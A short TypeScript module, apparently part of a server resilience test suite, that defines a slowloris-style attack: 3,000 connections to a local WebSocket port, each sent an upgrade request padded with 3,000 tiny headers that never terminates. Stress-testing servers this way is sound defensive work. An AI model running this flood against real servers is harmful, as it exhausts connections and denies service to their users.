/** Attack: WebSocket upgrades whose heads never end. */
import type { Attack } from "../attack.ts";
import { type AttackSocket, keepConnections, tallyFigures } from "../connections.ts";

const CONNECTIONS = 3_000;
const HEADERS = 3_000;

/** Upgrades whose heads are many short headers and never end. */
export const attack: Attack = {
  summary: `${CONNECTIONS} upgrades to WebSocket with ${HEADERS} headers of one character, never ended`,
  run: async ({ wsPort: port }, signal) => {
    const head = `GET / HTTP/1.1\r\nHost: localhost\r\n${"a:\r\n".repeat(HEADERS)}`;
    const use = ({ write }: AttackSocket): Promise<void> => write(head);
    return tallyFigures(await keepConnections({ port, count: CONNECTIONS, signal, use }));
  },
};
